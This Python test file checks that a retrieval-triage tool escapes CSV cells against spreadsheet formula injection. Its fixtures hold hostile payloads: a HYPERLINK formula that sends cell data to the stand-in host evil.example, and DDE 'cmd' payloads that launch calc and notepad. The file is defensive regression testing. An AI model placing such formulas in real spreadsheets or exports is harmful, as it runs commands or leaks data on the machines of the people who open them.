"""No cell of a CSV the product writes runs as a spreadsheet formula (CSV injection).

Found by an outside probe: query texts, titles, reviewers' notes, skip reasons and golden-set
or run names starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return reached the
backlog CSV unchanged, so any reviewer's note ran in a lead's spreadsheet. Now such a text cell
starts with ``'`` (OWASP's advice); JSON and JSONL keep the raw values."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from click.testing import CliRunner
from fastapi.testclient import TestClient
from sqlalchemy.engine import Engine
from sqlmodel import Session

from app.cli import main as cli
from app.eval.cells import FORMULA_STARTS, spreadsheet_cell
from app.models import Role
from app.services.imports import golden_sets, runs
from app.services.triage import triages
from tests.support.service import Account

NOTE = '=HYPERLINK("http://evil.example/?"&A1, "details")'
REASON = "@SUM(1+1)*cmd|' /C calc'!A0"
QUERY = "+1 what does the invoice say"
TITLE = "-2+3 chunking guide"
TABBED = "\tindented title"
RETURNED = "\rreturned title"


def _hostile_triage(engine: Engine, tmp: Path) -> int:
    (tmp / "q.qrels").write_text("-q1 0 =d1 1\n-q1 0 d2 1\n-q1 0 d3 1\n@q2 0 d4 2\n")
    (tmp / "q.tsv").write_text(f"-q1\t{QUERY}\n@q2\t=cmd|' /C notepad'!A0\n")
    (tmp / "c.jsonl").write_text(
        "\n".join(
            json.dumps({"_id": doc, "title": title, "text": "text"})
            for doc, title in [("=d1", TITLE), ("d2", TABBED), ("d3", RETURNED), ("d4", "ok")]
        )
        + "\n"
    )
    (tmp / "r.trec").write_text("-q1 Q0 other 1 9 t\n@q2 Q0 other 1 9 t\n")
    with Session(engine, expire_on_commit=False) as session:
        golden = golden_sets.import_golden_set(
            session=session,
            name="=golden+set",
            qrels=tmp / "q.qrels",
            queries=tmp / "q.tsv",
            corpus=tmp / "c.jsonl",
        )
        run = runs.import_run(
            session=session, golden=golden, name="-run", path=tmp / "r.trec", source_name="r"
        )
        triage = triages.create_triage(
            session=session, run=run, golden=golden, depth=10, k=1, user=None
        )
    assert triage.id is not None
    return triage.id


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_backlog_csv_cells_cannot_run(
    client: TestClient, accounts: dict[Role, Account], engine: Engine, tmp_path: Path
) -> None:
    triage_id = _hostile_triage(engine, tmp_path)
    headers = accounts[Role.REVIEWER].headers
    first = client.post(f"/api/v1/triages/{triage_id}/claim", headers=headers).json()
    labelled = client.post(
        f"/api/v1/misses/{first['id']}/label",
        headers=headers,
        json={"category": "other", "note": NOTE, "version": first["version"]},
    )
    assert labelled.status_code == 200, labelled.text
    second = client.post(f"/api/v1/triages/{triage_id}/claim", headers=headers).json()
    skipped = client.post(
        f"/api/v1/misses/{second['id']}/skip", headers=headers, json={"reason": REASON}
    )
    assert skipped.status_code == 200, skipped.text
    url = f"/api/v1/triages/{triage_id}/backlog"

    table = _csv_rows(client.get(f"{url}?format=csv", headers=headers).text)
    assert len(table) == 4
    cells = [value for row in table for value in row.values()]
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    by_doc = {row["doc_id"]: row for row in table}
    assert by_doc["'=d1"]["note"] == "'" + NOTE
    assert by_doc["'=d1"]["query"] == "'" + QUERY
    assert by_doc["'=d1"]["title"] == "'" + TITLE
    assert by_doc["'=d1"]["qid"] == "'-q1"
    assert by_doc["'=d1"]["golden_set"] == "'=golden+set"
    assert by_doc["'=d1"]["run"] == "'-run"
    assert by_doc["d2"]["title"] == "'" + TABBED
    assert by_doc["d3"]["title"] == "'" + RETURNED
    assert by_doc["d2"]["skipped"] == f"reviewer@example.com: {REASON}"  # starts with a letter
    assert by_doc["d4"]["query"] == "'=cmd|' /C notepad'!A0"

    # the programs' formats keep every value as it was written
    rows = [
        json.loads(line)
        for line in client.get(f"{url}?format=jsonl", headers=headers).text.splitlines()
    ]
    raw = {row["doc_id"]: row for row in rows}
    assert raw["=d1"]["note"] == NOTE
    assert raw["=d1"]["title"] == TITLE
    assert raw["=d1"]["golden_set"] == "=golden+set"
    assert raw["=d1"]["qid"] == "-q1"
    assert raw["d2"]["skipped"][0]["reason"] == REASON
    document = client.get(url, headers=headers).json()
    assert document["golden_set"] == "=golden+set"
    notes = [m["note"] for group in document["causes"] for m in group["misses"] if m["note"]]
    assert notes == [NOTE]


def test_evaluate_csv_cells_cannot_run(tmp_path: Path) -> None:
    """``misstriage evaluate``'s CSV outputs (the table and the misses file) too."""
    (tmp_path / "q.qrels").write_text("-q1 0 =d1 1\n-q1 0 d2 1\n")
    (tmp_path / "q.tsv").write_text(f"-q1\t{QUERY}\n")
    (tmp_path / "r.trec").write_text("-q1 Q0 d2 1 9 t\n")
    misses = tmp_path / "misses.csv"
    result = CliRunner().invoke(
        cli,
        [
            "evaluate",
            "--qrels",
            str(tmp_path / "q.qrels"),
            "--queries",
            str(tmp_path / "q.tsv"),
            f"--run=-run={tmp_path / 'r.trec'}",
            "--format",
            "csv",
            "--per-query",
            "--misses-out",
            str(misses),
        ],
    )
    assert result.exit_code == 0, result.output
    table = list(csv.reader(io.StringIO(result.stdout)))
    assert table[1][:2] == ["'-run", "'-q1"]
    written = list(csv.DictReader(misses.open(encoding="utf-8")))
    assert [(r["run"], r["qid"], r["doc_id"], r["query"]) for r in written] == [
        ("'-run", "'-q1", "'=d1", "'" + QUERY)
    ]
    for row in [*table, *(list(r.values()) for r in written)]:
        assert [c for c in row if c.startswith(FORMULA_STARTS)] == []


def test_the_cell_rule() -> None:
    assert [spreadsheet_cell(v) for v in ["=1", "+1", "-1", "@a", "\ta", "\ra", "a=1", ""]] == [
        "'=1",
        "'+1",
        "'-1",
        "'@a",
        "'\ta",
        "'\ra",
        "a=1",
        "",
    ]
    assert [spreadsheet_cell(v) for v in [None, -3, 2.5, True]] == ["", -3, 2.5, True]
